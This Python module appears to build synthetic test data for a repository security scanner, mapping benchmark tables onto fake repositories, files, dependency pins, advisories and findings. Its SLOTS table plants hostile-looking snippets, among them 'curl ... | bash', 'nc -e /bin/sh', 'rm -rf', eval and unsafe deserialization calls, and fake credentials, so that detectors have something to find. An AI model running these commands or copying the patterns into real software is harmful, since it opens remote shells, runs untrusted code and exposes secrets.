"""The driver's tables seen as a fleet of repositories, as DataFrames and as the same SQL for a second engine.

Every document is a file: its source and a running number name the repository and the file's place in it. A file's place picks a path and a
snippet from ``SLOTS``, so that every detector has something to find; optional slots fall back to plain text files in two of three repositories.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

_GH, _SLACK = "gh" + "p_" + "a" * 36, "https://hooks.slack" + ".com/services/" + "T0A1B2C3D4" * 3
_AWS, _STRIPE = "AK" + "IA" + "Q7" * 8, "sk" + "_live_" + "9f" * 12
_PAT, _JWT = "github" + "_pat_" + "B1" * 16, "ey" + "J" + "h" * 12 + "." + "p" * 14 + "." + "s" * 16
_PEM, _DB = "-----BEGIN RSA PRIV" + "ATE KEY-----", "postgres" + "ql://app:pw1234@db.local/main"
_DISCORD, _AWSKEY = "https://discord" + ".com/api/webhooks/" + "1" * 18 + "/" + "w" * 44, "aws_sec" + "ret = '" + "Ab1/" * 10 + "'"

#: path, mode (append, only, text, binary, big), optional, snippet
SLOTS = (
    ("README.md", "append", True, "# Project"), ("LICENSE", "text", True, ""), ("SECURITY.md", "append", True, "Report to us"), ("CHANGELOG.md", "append", False, "## 1.0"), ("CONTRIBUTING.md", "append", False, "Welcome"),
    ("docs/x.md", "append", True, "text"), ("tests/test_x.py", "only", True, "import os\nos.system('ls')\neval(x)\n"), ("examples/demo.py", "only", False, "exec(code)\n# eval(x)\n"),
    ("app.py", "only", False, "import pickle, yaml\neval(x)\npickle.loads(b)\ns = 'eval(y)'  # exec(z)\nyaml.load(\n  raw,\n  Loader=yaml.SafeLoader)\nyaml.load(raw)\nsubprocess.run(a,\n  shell=True)\nrequests.get(u, verify=False)\n"),
    ("web/app.js", "only", False, "el.innerHTML = x; // eval(a)\nif (a.innerHTML === b) eval('x');\nsetTimeout(\"go()\", 5);\nconst t = `eval(1)\n${x}`; new Function('a');\n"),
    ("lib/a.rb", "only", False, "# eval(x)\neval(y)\nsystem(\"ls\")\nMarshal.load(z)\nYAML.load(q)\n"), ("src/a.php", "only", False, "<?php\neval($x); # eval(1)\nsystem('ls');\ninclude $_GET['p'];\nunserialize($d);\nassert('x');\n"),
    ("install.sh", "append", False, "#!/bin/sh\ncurl -k https://x.y | bash\n\n  sudo rm -rf /tmp/x\nchmod +x a\n# curl z | sh\n"), ("scripts/run.sh", "only", False, "eval \"$X\"\nbase64 -d f\nnc -e /bin/sh\nwget --no-check-certificate u\n"), ("Makefile", "only", False, "all:\n\trm -rf $(OUT)\n\tsudo make\n"),
    ("Dockerfile", "only", True, "FROM node:latest\nUSER root\nADD https://x.y/z /z\nRUN curl u | sh\n"), ("docker-compose.yml", "only", False, "services:\n  a:\n    privileged: true\n"),
    (".github/workflows/ci.yml", "only", True, "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n    - run: sudo ls\n      uses: a/b@v1\n    - run: echo ${{ secrets.KEY }} ${{ github.event.issue.title }}\n"), (".env", "only", True, "KEY=1\n"), ("config/settings.py.example", "only", False, f"KEY = '{_AWS}'\n"),
    ("package.json", "only", True, '{"name": "a", "scripts": {"postinstall": "node x.js", "prepare": "tsc", "test": "jest"}, "dependencies": {"react": "^18", "express": "4"}, "devDependencies": {"jest": "29"}}'),
    ("package-lock.json", "only", False, '{"packages": {"": {"version": "1.0.0"}, "node_modules/react": {"version": "18.2.0"}, "node_modules/a/node_modules/b": {"version": "2.0.1"}}}'),
    ("legacy/package-lock.json", "only", False, '{"dependencies": {"x": {"version": "1.1.0", "dependencies": {"y": {"version": "2.2.0"}}}}}'),
    ("requirements.txt", "only", True, "django==4.2.0\nflask[async] == 2.0.1 # web\n-r other.txt\nrequests>=2\nnumpy===1.0\n"), ("pyproject.toml", "only", True, "[project]\nname = \"a\"\ndependencies = [\n  \"typer>=0.9\",\n  \"pydantic\",\n]\n"),
    ("Pipfile", "only", False, "[packages]\nname = \"x\"\nclick = \"*\"\nCelery = \"==5\"\n"), ("Pipfile.lock", "only", False, '{"default": {"Click": {"version": "==8.1.0"}, "loose": {"version": ">=1"}}, "develop": {"pytest": {"version": "==7.0.1"}}}'), ("setup.py", "only", True, "setup(install_requires=['sqlalchemy>=1', \"streamlit\"])\n"),
    ("poetry.lock", "only", False, "[[package]]\nname = \"Jinja2\"\nversion = \"3.1.2\"\n\n[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\n"), ("Cargo.toml", "only", False, "[package]\nname = \"a\"\n[dependencies]\ntokio = \"1\"\nclap = { version = \"4\" }\n# axum = \"0\"\n[profile]\nx = 1\n"), ("Cargo.lock", "only", False, "[[package]]\nname = \"Serde\"\nversion = \"1.0.188\"\n"),
    ("go.mod", "only", False, "module a\n\ngo 1.21\n\nrequire github.com/spf13/cobra v1.7.0\n\nrequire (\n\tgithub.com/gin-gonic/gin v1.9.1\n\tgolang.org/x/net v0.17.0 // indirect\n)\n"), ("Gemfile", "only", True, "source 'x'\ngem 'rails', '7'\n  gem \"sidekiq\"\n"), ("Gemfile.lock", "only", False, "GEM\n  specs:\n    rails (7.0.4)\n      rack (>= 2)\n    rspec (3.12)\n"),
    ("composer.json", "only", True, '{"require": {"php": ">=8", "laravel/framework": "^10"}, "require-dev": {"phpunit/phpunit": "^10"}}'), ("composer.lock", "only", False, '{"packages": [{"name": "a/b", "version": "v1.2.3"}, {"name": "c/d", "version": "dev-main"}], "packages-dev": [{"name": "e/f", "version": "2.0"}]}'),
    ("pom.xml", "only", True, "<artifactId>spring-boot</artifactId>\n<artifactId>junit</artifactId>\n"), ("main.tf", "only", True, "resource {}\n"), ("nb.ipynb", "only", True, "{}"), ("vite.config.ts", "only", True, "export default {}\n"), ("angular.json", "only", True, "{}"),
    ("assets/logo.png", "binary", False, ""), ("dist.min.js", "big", False, ""), ("node_modules/left/index.js", "only", False, "eval(x)\n"),
    ("sec/a.txt", "append", True, f"token {_GH} end"), ("sec/b.txt", "append", True, f"x {_PAT} y"), ("sec/c.py", "append", True, f"key = '{_AWS}'"), ("sec/d.cfg", "append", True, _AWSKEY), ("sec/e.pem", "append", True, _PEM), ("sec/f.txt", "append", True, f"jwt {_JWT}"),
    ("sec/g.txt", "append", True, f"url {_DB}"), ("sec/h.txt", "append", True, f"{_SLACK}"), ("sec/i.txt", "append", True, f"hook {_DISCORD} {_STRIPE}"),
    ("quiet.py", "only", False, "# audit: ignore-file\neval(x)\n"), ("hush.py", "only", False, "eval(x)  # audit: ignore PY001\nexec(y)  # audit: ignore PY001, PY003\nexec(z)  # audit: ignore\n"), ("notes.txt", "text", False, ""),
)
AS_OF = "2001-08-01 00:00:00"


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def files(spark: SparkSession, sf_dir: str) -> DataFrame:
    slots = spark.createDataFrame([(i, *s) for i, s in enumerate(SLOTS)], "slot long, base string, mode string, optional boolean, snippet string")
    d = table(spark, sf_dir, "documents").select("source", "text", F.expr("cast(substring(source, 4) AS long)").alias("n"), F.expr("doc_id div 20").alias("r"))
    n = len(SLOTS)
    d = d.withColumn("g", F.expr(f"r div {n}")).withColumn("slot", F.expr(f"(r + 7 * n + 11 * g) % {n}")).join(F.broadcast(slots), "slot")
    d = d.withColumn("mode", F.when(~F.col("optional") | (F.expr("(n + slot + g) % 3") == 0), F.col("mode")).otherwise("plain")).withColumn("file_pos", F.expr(f"r % {n}"))
    path = F.when(F.col("mode") == "plain", F.concat(F.lit("src/f"), F.col("file_pos").cast("string"), F.lit(".txt"))).otherwise(F.col("base"))
    content = F.when(F.col("mode") == "append", F.concat("snippet", F.lit("\n"), "text")).when(F.col("mode") == "only", F.col("snippet")).when(F.col("mode").isin("plain", "text"), F.col("text"))
    size = F.when(F.col("mode") == "big", 300000).when(F.col("mode") == "binary", 1000).otherwise(F.octet_length(content))
    return d.select(F.concat("source", F.lit("/"), F.col("g").cast("string")).alias("repo_id"), "file_pos", path.alias("path"), size.cast("long").alias("size"), content.alias("content"), (F.col("mode") == "binary").alias("is_binary"), (F.col("mode") == "big").alias("truncated"))


def _q(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


_N = len(SLOTS)
#: the same as common table expressions: files
FILES_SQL = f"""
slots(slot, base, mode, optional, snippet) AS (VALUES {", ".join(f"({i}, {_q(b)}, {_q(m)}, {str(o).lower()}, {_q(s)})" for i, (b, m, o, s) in enumerate(SLOTS))}),
numbered AS (SELECT source, text, CAST(substr(source, 4) AS BIGINT) AS n, doc_id // 20 AS r, (doc_id // 20) // {_N} AS g FROM documents),
placed AS (SELECT d.*, s.base, s.snippet, r % {_N} AS file_pos, CASE WHEN NOT s.optional OR (n + s.slot + g) % 3 = 0 THEN s.mode ELSE 'plain' END AS mode
  FROM numbered d JOIN slots s ON s.slot = (d.r + 7 * d.n + 11 * d.g) % {_N}),
files AS (SELECT source || '/' || g AS repo_id, file_pos, CASE WHEN mode = 'plain' THEN 'src/f' || file_pos || '.txt' ELSE base END AS path,
  CASE WHEN mode = 'append' THEN snippet || chr(10) || text WHEN mode = 'only' THEN snippet WHEN mode IN ('plain', 'text') THEN text END AS content,
  CASE WHEN mode = 'big' THEN 300000 WHEN mode = 'binary' THEN 1000 WHEN mode = 'append' THEN strlen(snippet) + 1 + strlen(text) WHEN mode = 'only' THEN strlen(snippet) ELSE strlen(text) END AS size,
  mode = 'binary' AS is_binary, mode = 'big' AS truncated,
  list_extract(string_split(path, '/'), -1) AS name, lower(regexp_extract(list_extract(string_split(path, '/'), -1), '^.+(\\.[^.]+)$', 1)) AS suffix FROM placed)"""


def repos(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Customers with their orders as repositories."""
    orders = table(spark, sf_dir, "orders").groupBy("o_custkey").agg(
        F.count("*").alias("n"), F.count_if(F.col("o_orderstatus") == "P").alias("forks"), F.count_if(F.col("o_orderstatus") == "O").alias("open"), F.max("o_orderdate").alias("last"))
    c = table(spark, sf_dir, "customer").join(orders, F.col("c_custkey") == F.col("o_custkey"), "left")
    key = F.col("c_custkey")
    return c.select(
        key.cast("string").alias("repo_id"), F.col("c_name").alias("name"), F.lit(None).cast("string").alias("owner"), F.when(key % 3 > 0, F.concat(F.lit("https://host/"), "c_name")).alias("url"), F.lit(None).cast("string").alias("description"), F.lit("main").alias("default_branch"),
        (F.coalesce("n", F.lit(0)) * F.coalesce("n", F.lit(0)) * (key % 50)).alias("stars"), F.coalesce("forks", F.lit(0)).alias("forks"), F.lit(None).cast("long").alias("watchers"), (F.coalesce("open", F.lit(0)) * 100).alias("open_issues"),
        F.when(key % 5 > 0, "MIT").alias("license"), (F.col("c_acctbal") < 0).alias("archived"), F.date_format("last", "yyyy-MM-dd HH:mm:ss").alias("pushed_at"), F.when(key % 7 == 0, "local").otherwise("github").alias("kind"),
    )


REPOS_SQL = """
repos AS (SELECT CAST(c_custkey AS VARCHAR) AS repo_id, c_name AS name, CASE WHEN c_custkey % 3 > 0 THEN 'https://host/' || c_name END AS url, coalesce(n, 0) * coalesce(n, 0) * (c_custkey % 50) AS stars, coalesce(forks, 0) AS forks,
  coalesce(open, 0) * 100 AS open_issues, CASE WHEN c_custkey % 5 > 0 THEN 'MIT' END AS license, c_acctbal < 0 AS archived, last AS pushed_at, CASE WHEN c_custkey % 7 = 0 THEN 'local' ELSE 'github' END AS kind,
  CASE WHEN last IS NOT NULL THEN greatest(0, CAST(floor(epoch(TIMESTAMP '2001-08-01' - last) / 86400) AS INT)) END AS days
  FROM customer LEFT JOIN (SELECT o_custkey, count(*) AS n, count(*) FILTER (o_orderstatus = 'P') AS forks, count(*) FILTER (o_orderstatus = 'O') AS open, max(o_orderdate) AS last FROM orders GROUP BY 1) ON c_custkey = o_custkey)"""


def language_bytes(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Bytes per repository and language, from quantities by part type."""
    rows = table(spark, sf_dir, "lineitem").join(table(spark, sf_dir, "orders"), F.col("l_orderkey") == F.col("o_orderkey")).join(table(spark, sf_dir, "part"), F.col("l_partkey") == F.col("p_partkey"))
    lang = F.element_at(F.create_map(*(F.lit(x) for pair in TYPE_LANGUAGES for x in pair)), F.col("p_type"))
    out = rows.groupBy(F.col("o_custkey").cast("string").alias("repo_id"), lang.alias("lang")).agg(F.sum("l_quantity").cast("long").alias("bytes"))
    return out.withColumn("lang_pos", F.ascii(F.substring("lang", 1, 1)))


TYPE_LANGUAGES = (("STANDARD", "Python"), ("SMALL", "Shell"), ("PROMO", "Go"), ("ECONOMY", "Ruby"), ("MEDIUM", "Java"), ("LARGE", "TypeScript"))
_LANG = "CASE p_type " + " ".join(f"WHEN '{a}' THEN '{b}'" for a, b in TYPE_LANGUAGES) + " END"
LANGUAGE_BYTES_SQL = f"""
language_bytes AS (SELECT CAST(o_custkey AS VARCHAR) AS repo_id, {_LANG} AS lang, CAST(sum(l_quantity) AS BIGINT) AS bytes, ascii({_LANG}) AS lang_pos
  FROM lineitem JOIN orders ON l_orderkey = o_orderkey JOIN part ON l_partkey = p_partkey GROUP BY ALL)"""


def dep_versions(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Pins per repository, from line items; the first of each."""
    rows = table(spark, sf_dir, "lineitem").join(table(spark, sf_dir, "orders"), F.col("l_orderkey") == F.col("o_orderkey"))
    key = F.col("l_partkey")
    pos = F.col("l_orderkey") * 8 + F.col("l_linenumber")
    return rows.groupBy(F.col("o_custkey").cast("string").alias("repo_id"), _ecosystem(key).alias("ecosystem"), F.concat(F.lit("pkg"), key.cast("string")).alias("name"), F.concat(F.col("l_linenumber").cast("string"), F.lit(".0")).alias("version")).agg(F.min(pos).alias("dep_pos")).withColumn("source", F.lit("lock"))


def _ecosystem(key):
    return F.when(key % 3 == 0, "npm").when(key % 3 == 1, "PyPI").otherwise("Go")


DEPS_SQL = """
dep_versions AS (SELECT CAST(o_custkey AS VARCHAR) AS repo_id, CASE l_partkey % 3 WHEN 0 THEN 'npm' WHEN 1 THEN 'PyPI' ELSE 'Go' END AS ecosystem, 'pkg' || l_partkey AS name, l_linenumber || '.0' AS version,
  min(l_orderkey * 8 + l_linenumber) AS dep_pos, 'lock' AS source FROM lineitem JOIN orders ON l_orderkey = o_orderkey GROUP BY 1, 2, 3, 4)"""


def advisories(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = table(spark, sf_dir, "part").select("p_partkey", F.explode(F.sequence(F.lit(1), F.lit(7))).alias("v")).where((F.col("p_partkey") + F.col("v")) % 3 == 0)
    ids = F.filter(F.sequence(F.lit(0).cast("long"), F.col("p_partkey") % 13), lambda i: i > 0)
    rows = rows.select("p_partkey", "v", F.explode(ids).alias("i"))
    key = F.col("p_partkey")
    return rows.select(_ecosystem(key).alias("ecosystem"), F.concat(F.lit("pkg"), key.cast("string")).alias("name"), F.concat(F.col("v").cast("string"), F.lit(".0")).alias("version"), F.concat(F.lit("ADV-"), key.cast("string"), F.lit("-"), F.col("i").cast("string")).alias("vuln_id"), F.col("i").cast("int").alias("vuln_pos"))


def advisory_details(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = table(spark, sf_dir, "part").select("p_partkey", "p_name", "p_type", F.explode(F.filter(F.sequence(F.lit(0).cast("long"), F.col("p_partkey") % 13), lambda i: i > 0)).alias("i"))
    label = F.when(F.col("p_type") == "STANDARD", "critical").when(F.col("p_type") == "SMALL", "HIGH").when(F.col("p_type") == "PROMO", "Moderate").when(F.col("p_type") == "ECONOMY", "LOW").when(F.col("p_type") == "MEDIUM", "odd")
    return rows.select(F.concat(F.lit("ADV-"), F.col("p_partkey").cast("string"), F.lit("-"), F.col("i").cast("string")).alias("vuln_id"), F.when(F.col("i") % 3 > 0, F.col("p_name")).alias("summary"), F.when(F.col("i") % 2 > 0, F.concat("p_name", F.lit(" fails\nmore"))).alias("details"), label.alias("severity_label"))


ADVISORIES_SQL = """
advisories AS (SELECT CASE p_partkey % 3 WHEN 0 THEN 'npm' WHEN 1 THEN 'PyPI' ELSE 'Go' END AS ecosystem, 'pkg' || p_partkey AS name, v || '.0' AS version, 'ADV-' || p_partkey || '-' || i AS vuln_id, i AS vuln_pos
  FROM (SELECT *, unnest(range(1, p_partkey % 13 + 1)) AS i FROM (SELECT p_partkey, unnest(range(1, 8)) AS v FROM part) WHERE (p_partkey + v) % 3 = 0)),
advisory_details AS (SELECT 'ADV-' || p_partkey || '-' || i AS vuln_id, CASE WHEN i % 3 > 0 THEN p_name END AS summary, CASE WHEN i % 2 > 0 THEN p_name || ' fails' || chr(10) || 'more' END AS details,
  CASE p_type WHEN 'STANDARD' THEN 'critical' WHEN 'SMALL' THEN 'HIGH' WHEN 'PROMO' THEN 'Moderate' WHEN 'ECONOMY' THEN 'LOW' WHEN 'MEDIUM' THEN 'odd' END AS severity_label
  FROM (SELECT *, unnest(range(1, p_partkey % 13 + 1)) AS i FROM part))"""


def ranged_pins(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Pins per repository with numbers of two digits, pre-releases and padded releases, from line items; the first of each."""
    rows = table(spark, sf_dir, "lineitem").join(table(spark, sf_dir, "orders"), F.col("l_orderkey") == F.col("o_orderkey"))
    key, k = F.col("l_partkey"), F.col("l_orderkey")
    pre = F.concat(F.when(key % 3 == 1, "rc").otherwise("-rc."), (k % 11).cast("string"))
    version = F.concat(F.col("l_linenumber").cast("string"), F.lit("."), (k % 12).cast("string"), F.when(k % 4 == 1, pre).when(k % 4 == 2, ".0").otherwise(""))
    return rows.groupBy(F.col("o_custkey").cast("string").alias("repo_id"), _ecosystem(key).alias("ecosystem"), F.concat(F.lit("pkg"), key.cast("string")).alias("name"), version.alias("version")).agg(F.min(k * 8 + F.col("l_linenumber")).alias("dep_pos")).withColumn("source", F.lit("lock"))


def advisory_ranges(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Three ranges a part: up to a fixed version, from a pre-release to a last affected one, and two intervals of which one is open."""
    key = F.col("p_partkey")
    text = lambda *parts: F.concat(*(x.cast("string") if i % 2 == 0 else F.lit(".") for i, x in enumerate(parts)))

    def event(**field: Column) -> Column:
        return F.struct(*(field.get(n, F.lit(None).cast("string")).alias(n) for n in ("introduced", "fixed", "last_affected", "limit")))

    pre = F.concat(text(key % 4 + 1, None, key % 10), F.when(key % 3 == 1, "rc").otherwise("-rc."), (key % 9).cast("string"))
    lists = [
        [event(introduced=F.lit("0")), event(fixed=text(key % 7 + 1, None, key % 12))],
        [event(last_affected=text(key % 4 + 2, None, key % 11)), event(introduced=pre)],
        [event(introduced=F.lit("1.2")), event(fixed=F.lit("1.10")), event(introduced=text(key % 3 + 4, None, F.lit(3)))],
    ]
    rows = table(spark, sf_dir, "part").select("p_partkey", F.posexplode(F.array(*(F.array(*x) for x in lists))).alias("vuln_pos", "events"))
    return rows.select(F.concat(F.lit("RNG-"), key.cast("string"), F.lit("-"), F.col("vuln_pos").cast("string")).alias("vuln_id"), "vuln_pos", _ecosystem(key).alias("ecosystem"), F.concat(F.lit("pkg"), key.cast("string")).alias("name"), F.lit("ECOSYSTEM").alias("range_type"), "events")


def _version_list(text: str) -> str:
    """A version as a list that sorts: numbers, then 0 and its number for a pre-release or 1."""
    number = lambda k: f"coalesce(try_cast(string_split(regexp_extract({text}, '^[0-9.]+'), '.')[{k}] AS INT), 0)"
    pre = f"try_cast(regexp_extract({text}, 'rc\\.?([0-9]+)$', 1) AS INT)"
    return f"[{number(1)}, {number(2)}, {number(3)}, CASE WHEN {pre} IS NULL THEN 1 ELSE 0 END, coalesce({pre}, 0)]"


RANGES_SQL = f"""
ranged_pins AS (SELECT CAST(o_custkey AS VARCHAR) AS repo_id, CASE l_partkey % 3 WHEN 0 THEN 'npm' WHEN 1 THEN 'PyPI' ELSE 'Go' END AS ecosystem, 'pkg' || l_partkey AS name,
  l_linenumber || '.' || (l_orderkey % 12) || CASE l_orderkey % 4 WHEN 1 THEN (CASE l_partkey % 3 WHEN 1 THEN 'rc' ELSE '-rc.' END) || (l_orderkey % 11) WHEN 2 THEN '.0' ELSE '' END AS version,
  min(l_orderkey * 8 + l_linenumber) AS dep_pos FROM lineitem JOIN orders ON l_orderkey = o_orderkey GROUP BY 1, 2, 3, 4),
spans AS (
  SELECT p_partkey, 0 AS vuln_pos, '0' AS low, (p_partkey % 7 + 1) || '.' || (p_partkey % 12) AS high, false AS closed FROM part
  UNION ALL SELECT p_partkey, 1, (p_partkey % 4 + 1) || '.' || (p_partkey % 10) || CASE p_partkey % 3 WHEN 1 THEN 'rc' ELSE '-rc.' END || (p_partkey % 9), (p_partkey % 4 + 2) || '.' || (p_partkey % 11), true FROM part
  UNION ALL SELECT p_partkey, 2, '1.2', '1.10', false FROM part
  UNION ALL SELECT p_partkey, 2, (p_partkey % 3 + 4) || '.3', NULL, false FROM part),
keyed_spans AS (SELECT 'RNG-' || p_partkey || '-' || vuln_pos AS vuln_id, vuln_pos, 'pkg' || p_partkey AS name, closed, CASE WHEN low = '0' THEN [0] ELSE {_version_list("low")} END AS low, CASE WHEN high IS NOT NULL THEN {_version_list("high")} END AS high FROM spans),
range_hits AS (SELECT DISTINCT repo_id, dep_pos, ecosystem, name, version, vuln_id, vuln_pos FROM (SELECT *, {_version_list("version")} AS v FROM ranged_pins) JOIN keyed_spans USING (name)
  WHERE v >= low AND (high IS NULL OR v < high OR (closed AND v = high)))"""


def findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events as findings: a user's day is a repository."""
    e, c = table(spark, sf_dir, "events"), F.col("event_id") % 6
    severity = F.when(F.col("event_type") == "view", "info").when(F.col("event_type") == "click", "low").when(F.col("event_type") == "signup", "medium").when(F.col("event_type") == "error", "high").otherwise("critical")
    category = F.when(c == 0, "secret").when(c == 1, "install_hook").when(c == 2, "code_pattern").when(c == 3, "dependency").when(c == 4, "maintenance").otherwise("other")
    k = F.get_json_object("props", "$.k")
    return e.select(
        F.concat(F.col("user_id").cast("string"), F.lit("@"), F.date_format("ts", "yyyy-MM-dd")).alias("repo_id"), F.col("event_id").alias("finding_pos"), F.concat(F.lit("R"), (F.col("event_id") % 9).cast("string")).alias("rule_id"), F.concat(F.lit("Rule "), (F.col("event_id") % 9).cast("string")).alias("title"), severity.alias("severity"),
        F.when(F.col("event_id") % 10 > 0, F.concat(F.when(k.cast("int") % 4 == 0, "tests/").otherwise("src/"), F.lit("f"), k, F.lit(".py"))).alias("file_path"), F.when(F.col("event_id") % 7 > 0, F.floor("value").cast("int")).alias("line_number"),
        F.concat(F.lit("found "), "event_type", F.lit("\nmore")).alias("description"), F.lit("review").alias("recommendation"), category.alias("category"),
    )


FINDINGS_SQL = """
findings AS (SELECT user_id || '@' || strftime(ts, '%Y-%m-%d') AS repo_id, event_id AS finding_pos, 'R' || (event_id % 9) AS rule_id, 'Rule ' || (event_id % 9) AS title,
  CASE event_type WHEN 'view' THEN 'info' WHEN 'click' THEN 'low' WHEN 'signup' THEN 'medium' WHEN 'error' THEN 'high' ELSE 'critical' END AS severity,
  CASE WHEN event_id % 10 > 0 THEN (CASE WHEN CAST(json_extract_string(props, '$.k') AS INT) % 4 = 0 THEN 'tests/' ELSE 'src/' END) || 'f' || json_extract_string(props, '$.k') || '.py' END AS file_path,
  CASE WHEN event_id % 7 > 0 THEN CAST(floor(value) AS INT) END AS line_number, 'found ' || event_type || chr(10) || 'more' AS description, 'review' AS recommendation,
  CASE event_id % 6 WHEN 0 THEN 'secret' WHEN 1 THEN 'install_hook' WHEN 2 THEN 'code_pattern' WHEN 3 THEN 'dependency' WHEN 4 THEN 'maintenance' ELSE 'other' END AS category,
  CASE event_type WHEN 'view' THEN 0 WHEN 'click' THEN 1 WHEN 'signup' THEN 2 WHEN 'error' THEN 3 ELSE 4 END AS sev FROM events)"""
